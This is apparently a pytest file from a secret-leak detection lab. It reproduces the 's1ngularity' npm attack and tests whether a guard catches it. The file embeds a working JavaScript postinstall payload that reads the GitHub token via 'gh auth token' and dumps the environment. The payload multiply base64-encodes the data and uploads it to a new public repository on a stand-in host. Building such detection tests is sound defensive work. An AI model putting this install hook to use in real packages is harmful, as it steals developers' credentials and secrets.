# SPDX-License-Identifier: MIT
"""I-09, s1ngularity: a package's install script puts secrets into a new public repository.

Everything goes to the API of the forge, which every policy allows: ``gh auth token`` gives the
token, and the loot is a file in base64 of base64 (three times in some sources), as the API wants
it. The token goes home; the loot does not.
"""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from lab import Lab, tokens
from lab.guard import FINDINGS, Guarded, assert_leak_stopped
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

API = "api.home.test"
TELEMETRY = f"""\
const {{ execSync }} = require("child_process");
const https = require("https");
const token = execSync("gh auth token").toString().trim();
let loot = JSON.stringify({{ environment: process.env }});
for (let i = 0; i < Number(process.argv[2]); i++) loot = Buffer.from(loot).toString("base64");
const call = (method, path, body, then) => {{
  const headers = {{ authorization: `token ${{token}}` }};
  const request = https.request({{ host: "{API}", method, path, headers }}, (reply) => {{
    reply.resume();
    reply.on("end", then);
  }});
  request.on("error", () => {{}});
  request.end(JSON.stringify(body));
}};
const place = "/repos/victim/s1ngularity-repository/contents/results.b64";
call("POST", "/user/repos", {{ name: "s1ngularity-repository" }}, () =>
  call("PUT", place, {{ message: "x", content: loot }}, () => console.log("sent"))
);
"""
FOUND_BEFORE_IT_LEFT = {1: "base64", 2: "base64-twice"}


def job(lab: Lab, token: Token, times: int) -> list[str]:
    """``npm install`` of the package, and a ``gh`` that is logged in."""
    package = lab.directory / "package"
    package.mkdir()
    scripts = {"postinstall": f"node telemetry.js {times}"}
    (package / "package.json").write_text(
        json.dumps({"name": "nx-lab", "version": "1.0.0", "scripts": scripts})
    )
    (package / "telemetry.js").write_text(TELEMETRY)
    tools = lab.directory / "tools"
    tools.mkdir()
    (lab.directory / "hosts.yml").write_text(token.value)
    (tools / "gh").write_text(f"#!/bin/sh\ncat {lab.directory / 'hosts.yml'}\n")
    (tools / "gh").chmod(0o755)
    install = "npm install --offline --no-audit --no-fund --foreground-scripts"
    return ["sh", "-c", f"cd package && PATH={tools}:$PATH {install}; true"]


def policy(token: Token) -> str:
    """The forge is allowed, and it is the home of its token."""
    return f"version: 1\nallow: {API}\nsecrets: {{{token.name}: {API}}}\n"


def given() -> tuple[Token, Token]:
    """The forge's token, and another secret of the job."""
    return tokens.github("GH_TOKEN"), tokens.npm()


def at_the_forge(lab: Lab) -> bytes:
    """All that arrived."""
    return b"\n".join(bytes(seen.plain) for seen in lab.home.connections)


@pytest.fixture(autouse=True)
def forge(lab: Lab) -> None:
    lab.dns.zone[API] = lab.dns.zone["home.test"]


@pytest.mark.parametrize("times", [1, 2, 3])
def test_unguarded_the_loot_is_in_the_repository(lab: Lab, times: int) -> None:
    token, loot = given()
    lab.run(job(lab, token, times), env=loot.env)
    assert b"PUT /repos/victim" in at_the_forge(lab)
    assert len(lab.home.connections) == 2


@pytest.mark.parametrize("mode", ["audit", "block"])
@pytest.mark.parametrize("times", sorted(FOUND_BEFORE_IT_LEFT))
def test_guarded_the_repository_stays_empty(
    lab: Lab, leakstop: Guard, mode: str, times: int
) -> None:
    token, loot = given()
    command = job(lab, token, times)
    run = leakstop(command, mode=mode, policy=policy(token), secrets=[token, loot])
    assert b"POST /user/repos" in at_the_forge(lab), "the token's own call is nobody's business"
    assert b'"content"' not in at_the_forge(lab)
    assert_leak_stopped(run, loot, finding="secret-in-tls", program="node", destination=API)
    assert run.findings()[0]["encoding"] == FOUND_BEFORE_IT_LEFT[times]


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_three_times_is_found_when_it_is_too_late(lab: Lab, leakstop: Guard, mode: str) -> None:
    """The kernel looks for base64 of base64; what is nested deeper the agent finds in its copy."""
    token, loot = given()
    run = leakstop(job(lab, token, 3), mode=mode, policy=policy(token), secrets=[token, loot])
    assert b'"content"' in at_the_forge(lab)
    assert run.code == FINDINGS, run.stderr
    (found,) = run.findings("secret-in-tls")
    assert (found["severity"], found["secret"]) == ("critical", loot.name)
    assert found["bytes_left"] != 0
    assert run.shows(loot) == []
